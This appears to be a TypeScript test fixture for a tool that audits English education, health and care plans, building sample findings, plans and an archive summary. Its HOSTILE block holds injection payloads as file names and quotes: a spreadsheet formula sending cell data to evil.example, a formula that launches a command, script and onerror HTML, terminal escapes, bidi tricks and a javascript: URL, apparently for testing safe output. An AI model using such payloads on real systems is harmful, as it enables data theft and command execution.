import type { CalendarDate } from '../../src/model/calendar-date.ts';
import { type ProblemCode, problemOf } from '../../src/model/problem.ts';
import {
  auditResultSchema,
  type DocumentResult,
  type FactsResult,
  type Finding,
  type SavedResult,
} from '../../src/model/result.ts';
import { SECTIONS, type SectionLetter, type SectionState } from '../../src/model/section.ts';
import type { RuleText } from '../../src/reports/options.ts';

const day = (text: string): CalendarDate => text as CalendarDate;

const AS_OF = day('2026-11-23');

/** What the rules of this sample have in common. */
const RULE = {
  basis: 'statute',
  severity: { final: 'error', draft: 'warning' },
  authority: [{ text: 'SEND Regulations 2014', url: 'https://www.legislation.gov.uk/uksi/2014/1530' }],
  falsePositives: ['A plan that says so elsewhere.'],
  section: [],
} as const;

const ruleText = (text: Pick<RuleText, 'title' | 'why' | 'family'>): RuleText => ({
  ...RULE,
  authority: [...RULE.authority],
  falsePositives: [...RULE.falsePositives],
  section: [],
  ...text,
});

export const RULES: ReadonlyMap<string, RuleText> = new Map([
  [
    'health-not-known',
    ruleText({
      title: 'Health section only says the child is not known',
      why: 'The authority must seek health advice; "not known" does not show that anybody looked.',
      family: 'agencies',
    }),
  ],
  [
    'social-care-needs-missing',
    ruleText({
      title: 'Social care needs are blank',
      why: 'Section D must show needs, or say that there are none and on whose advice.',
      family: 'agencies',
    }),
  ],
  [
    'review-overdue',
    ruleText({
      title: 'The last review is more than a year old',
      why: 'The authority must review the plan every 12 months.',
      family: 'reviews',
    }),
  ],
  [
    'adulthood-outcomes-missing',
    ruleText({
      title: 'No outcome prepares for adulthood',
      why: 'From Year 9 the plan must look towards adult life.',
      family: 'adulthood',
    }),
  ],
  [
    'provision-vague',
    ruleText({
      title: 'Provision uses a weak phrase',
      why: 'Provision must be specific enough to leave no doubt.',
      family: 'provision',
    }),
  ],
  [
    'acronym-unexplained',
    ruleText({
      title: 'An acronym is never explained',
      why: 'The plan must be clear to everyone who reads it.',
      family: 'plain-english',
    }),
  ],
  [
    'text-reused',
    ruleText({
      title: 'The same words in several plans',
      why: 'Plans are about one child.',
      family: 'archive',
    }),
  ],
]);

const NO_FACTS: FactsResult = {
  yearGroup: null,
  yearGroupAsOf: null,
  ageYears: null,
  planDate: null,
  requestDate: null,
  draftDate: null,
  firstIssueDate: null,
  finalDate: null,
  amendedDate: null,
  signOffDate: null,
  lastReviewDate: null,
  reviewReportDate: null,
  reviewDecisionDate: null,
  amendmentNoticeDate: null,
  reviewDueDate: null,
  setting: null,
};

function facts(known: Partial<FactsResult>): FactsResult {
  return { ...NO_FACTS, ...known };
}

type States = Partial<Record<SectionLetter, SectionState>>;

function sections(states: States): DocumentResult['sections'] {
  return Object.fromEntries(
    SECTIONS.map((letter) => {
      const state = states[letter] ?? 'content';
      return [letter, { state, foundBy: state === 'missing' ? null : 'letter' }];
    }),
  );
}

/** Errors red, warnings amber, the rest green: enough of the real rating for a sample. */
function ratings(findings: readonly Finding[]): DocumentResult['ratings'] {
  const rate = (of: readonly Finding[]) => {
    if (of.some(({ severity }) => severity === 'error')) return 'red';
    return of.some(({ severity }) => severity === 'warning') ? 'amber' : 'green';
  };
  const bySection = SECTIONS.map((letter) => [
    letter,
    rate(findings.filter(({ section }) => section === letter)),
  ]);
  return Object.fromEntries([['overall', rate(findings)], ...bySection]);
}

type PlanParts = Partial<Omit<DocumentResult, 'sections' | 'facts'>> & {
  readonly states?: States;
  readonly known?: Partial<FactsResult>;
};

/** An audited final plan in which every section is written, unless said otherwise. */
export function plan(path: string, parts: PlanParts = {}): DocumentResult {
  const { states = {}, known = {}, ...rest } = parts;
  return {
    path,
    standing: 'current',
    sha256: 'ab'.repeat(32),
    outcome: 'audited',
    problem: null,
    kind: 'plan',
    stage: 'final',
    facts: facts({ planDate: day('2025-01-10'), yearGroup: 5, yearGroupAsOf: 7, ageYears: 9, ...known }),
    sections: sections(states),
    findings: [],
    waived: [],
    baselined: 0,
    passed: ['section-missing', 'section-empty'],
    notAssessed: [],
    groups: {},
    ratings: ratings(rest.findings ?? []),
    ...rest,
  };
}

/** A document that was not audited. */
export function notAudited(
  path: string,
  code: ProblemCode,
  parts: Partial<DocumentResult> = {},
): DocumentResult {
  return {
    ...plan(path),
    outcome: 'unreadable',
    problem: problemOf(code),
    kind: null,
    stage: null,
    facts: null,
    sections: {},
    passed: [],
    ratings: {},
    ...parts,
  };
}

export const healthNotKnown: Finding = {
  id: 'f1',
  rule: 'health-not-known',
  verdict: 'not-shown',
  confidence: 'high',
  severity: 'error',
  basis: 'statute',
  agency: 'health',
  section: 'C',
  message: 'Section C says only that the child is not known, and section K shows no health advice.',
  quote: 'Not known to this service.',
  location: { page: 4, paragraph: 61, table: 3, row: 2, column: 1 },
  authority: [
    {
      text: 'SEND Regulations 2014, reg 6(1)(c)',
      url: 'https://www.legislation.gov.uk/uksi/2014/1530/regulation/6',
    },
  ],
  action: 'Ask the designated clinical officer for health advice on [needs], dated and signed, by [date].',
  data: {},
};

const reviewOverdue: Finding = {
  id: 'f2',
  rule: 'review-overdue',
  verdict: 'fail',
  confidence: 'high',
  severity: 'error',
  basis: 'statute',
  agency: 'send',
  section: null,
  message: 'The last review printed is of 14 March 2024: a review has been overdue for 20 months.',
  quote: 'Date of last annual review: 14/03/2024',
  location: { page: 1, paragraph: 9 },
  authority: [
    {
      text: 'Children and Families Act 2014, s.44(1)',
      url: 'https://www.legislation.gov.uk/ukpga/2014/6/section/44',
    },
  ],
  action: 'Hold the review by [date], or enter the date of the review that was held.',
  data: { monthsOverdue: 20, dates: ['2024-03-14'] },
};

const adulthoodMissing: Finding = {
  ...reviewOverdue,
  id: 'f3',
  rule: 'adulthood-outcomes-missing',
  verdict: 'not-shown',
  basis: 'guidance',
  agency: 'education',
  section: 'E',
  message:
    'The young person is in Year 10, and no outcome is about employment, independent living, community or health.',
  quote: null,
  location: {},
  authority: [{ text: 'SEND Code of Practice 2015, 9.64 and chapter 8' }],
  action: 'Agree with [name] at least one outcome for [area], with what will change and by when.',
  data: {},
};

const socialCareMissing: Finding = {
  ...adulthoodMissing,
  id: 'f4',
  rule: 'social-care-needs-missing',
  agency: 'social-care',
  section: 'D',
  message: 'Section D is blank.',
  authority: [{ text: 'SEND Code of Practice 2015, 9.69' }],
  action: 'Ask social care for advice, or for a dated reply that there are no needs.',
};

/** One vague phrase of section F; `ordinal` tells equals apart. */
function vague(quote: string, ordinal: number): Finding {
  return {
    id: `v${ordinal}`,
    rule: 'provision-vague',
    verdict: 'fail',
    confidence: 'medium',
    severity: 'warning',
    basis: 'guidance',
    agency: 'education',
    section: 'F',
    message: 'A weak phrase stands where who, how much and how often should be.',
    quote,
    location: { page: 6, paragraph: 80 + ordinal },
    authority: [{ text: 'SEND Code of Practice 2015, 9.69' }],
    action: 'Say what: [role, qualification] will deliver [programme] for [minutes] [times] per [week].',
    data: {},
  };
}

const acronym: Finding = {
  ...vague('EHA', 0),
  id: 'a1',
  rule: 'acronym-unexplained',
  confidence: 'low',
  severity: 'info',
  agency: 'send',
  section: 'B',
  message: 'The acronym "EHA" is never explained.',
  action: 'Write it out where it first appears.',
};

export const DEFECTIVE = plan('archive/north/plan-041.docx', {
  known: { yearGroup: 9, yearGroupAsOf: 10, ageYears: 13, lastReviewDate: day('2024-03-14') },
  states: { C: 'silence', D: 'blank' },
  findings: [
    reviewOverdue,
    healthNotKnown,
    socialCareMissing,
    adulthoodMissing,
    vague('access to a quiet space as and when required', 1),
    vague('regular support', 2),
    vague('opportunities to work in a small group', 3),
    vague('will benefit from visual timetables', 4),
    acronym,
  ],
  notAssessed: [
    { rule: 'phase-transfer-late', reason: 'Section I does not say which phase the setting belongs to.' },
    { rule: 'plan-issued-late', reason: 'No date of the request is printed.' },
    { rule: 'adulthood-advice-missing', reason: 'No date of the request is printed.' },
  ],
  waived: [
    { ...acronym, id: 'a2', waiver: { reason: 'Locally known', owner: 'QA lead', until: day('2027-03-31') } },
  ],
  baselined: 2,
});

export const CLEAN = plan('archive/north/plan-042.pdf', {
  notAssessed: [{ rule: 'plan-issued-late', reason: 'No date of the request is printed.' }],
});

/** Names and words that mean something to a spreadsheet, a browser or a terminal. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"open").docx',
  script:
    'archive/<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">.docx',
  terminal: 'archive/\u001b[2J\u001b]0;owned\u0007plan.docx',
  bidi: 'archive/plan\u202Efdp.docx',
  lines: 'archive/two\nlines\r::error::owned.docx',
} as const;

export const HOSTILE_DOCUMENTS: readonly DocumentResult[] = [
  plan(HOSTILE.formula, {
    findings: [{ ...healthNotKnown, quote: '@SUM(1+1)*cmd|" /C calc"!A0', message: '+1 is not known' }],
  }),
  notAudited(HOSTILE.lines, 'encrypted'),
  plan(HOSTILE.terminal, {
    findings: [{ ...socialCareMissing, quote: '\u001b[31m<b onclick=x>red</b>\u001b[0m' }],
  }),
  notAudited(HOSTILE.script, 'truncated'),
  plan(HOSTILE.bidi, { findings: [{ ...acronym, quote: '\u200Bjavascript:alert(1)\u2066' }] }),
];

function countsOf(
  documents: readonly DocumentResult[],
  key: (finding: Finding) => string,
  names: readonly string[] = [],
): Record<string, { plans: number; findings: number }> {
  const counts = Object.fromEntries(names.map((name) => [name, { plans: 0, findings: 0 }]));
  for (const { findings } of documents) {
    for (const name of new Set(findings.map(key))) {
      const before = counts[name] ?? { plans: 0, findings: 0 };
      const found = findings.filter((finding) => key(finding) === name).length;
      counts[name] = { plans: before.plans + 1, findings: before.findings + found };
    }
  }
  return counts;
}

/** A result that holds these documents, with the counts that belong to them. */
export function result(documents: readonly DocumentResult[], parts: Partial<SavedResult> = {}): SavedResult {
  const outcomes = (outcome: DocumentResult['outcome']) =>
    documents.filter((document) => document.outcome === outcome).length;
  const audited = documents.filter(({ outcome }) => outcome === 'audited');
  const overdue = audited.filter(({ findings }) =>
    findings.some(({ rule }) => rule === 'review-overdue'),
  ).length;
  return auditResultSchema.parse({
    schemaVersion: 1,
    tool: { name: 'ehc-audit', version: '0.1.0' },
    asOf: AS_OF,
    packs: [{ name: 'england', version: '1.0.0', lawAsAt: '2026-09-01' }],
    documents,
    selection: { only: [], except: [] },
    archive: { findings: [] },
    summary: {
      status: outcomes('unreadable') > 0 ? 'incomplete' : 'complete',
      documents: documents.length,
      audited: audited.length,
      skipped: outcomes('skipped'),
      unreadable: outcomes('unreadable'),
      byRule: countsOf(audited, ({ rule }) => rule),
      byAgency: countsOf(audited, ({ agency }) => agency, ['education', 'health', 'social-care', 'send']),
      bySeverity: countsOf(audited, ({ severity }) => severity, ['error', 'warning', 'info']),
      reviewAge: {
        '0-6': audited.length - overdue,
        '6-12': 0,
        '12-24': 0,
        '24-36': overdue,
        '36+': 0,
        unknown: 0,
      },
    },
    ...parts,
  });
}

/** A small archive: good and poor plans, other documents, files that cannot be read. */
export const ARCHIVE = result(
  [
    DEFECTIVE,
    CLEAN,
    plan('archive/north/plan-043.docx', {
      known: { yearGroup: 11, yearGroupAsOf: 12, ageYears: 16 },
      findings: [
        {
          ...adulthoodMissing,
          message: 'The young person is in Year 12, and no outcome is about adult life.',
        },
      ],
      states: { G: 'pending', H2: 'nil' },
    }),
    plan('archive/north/plan-044.docx', {
      stage: 'unknown',
      standing: 'unknown',
      findings: [vague('regular input', 1)],
    }),
    plan('archive/north/plan-045.pdf', {
      standing: 'superseded',
      supersededBy: 'archive/north/plan-041.docx',
    }),
    plan(
      'archive/south/plan-with-a-long-name-in-a-long-folder/education-health-and-care-plan-of-record-2025-final.docx',
      {
        states: { C: 'missing', D: 'nil', H1: 'blank', I: 'unread' },
        known: { yearGroup: null, yearGroupAsOf: null, ageYears: null },
        findings: [healthNotKnown],
        problem: problemOf('no-text-layer', 'Pages 3 and 4 are pictures.'),
      },
    ),
    plan('archive/template.docx', {
      kind: 'template',
      stage: 'template',
      known: { planDate: null, yearGroup: null, yearGroupAsOf: null, ageYears: null },
    }),
    notAudited('archive/review.docx', 'not-a-plan', { outcome: 'skipped', kind: 'review-form' }),
    notAudited('archive/scan-1.pdf', 'no-text-layer'),
    notAudited('archive/scan-2.pdf', 'no-text-layer'),
    notAudited('archive/locked.docx', 'encrypted'),
  ],
  {
    archive: {
      findings: [
        {
          ...acronym,
          id: 'x1',
          rule: 'text-reused',
          severity: 'warning',
          section: 'F',
          agency: 'send',
          message: 'The same three sentences of provision stand in 2 plans.',
          quote: 'The child will have access to a key adult throughout the day.',
          action: 'Check that the provision was written for each child.',
          documents: ['archive/north/plan-041.docx', 'archive/north/plan-043.docx'],
        },
      ],
    },
  },
);
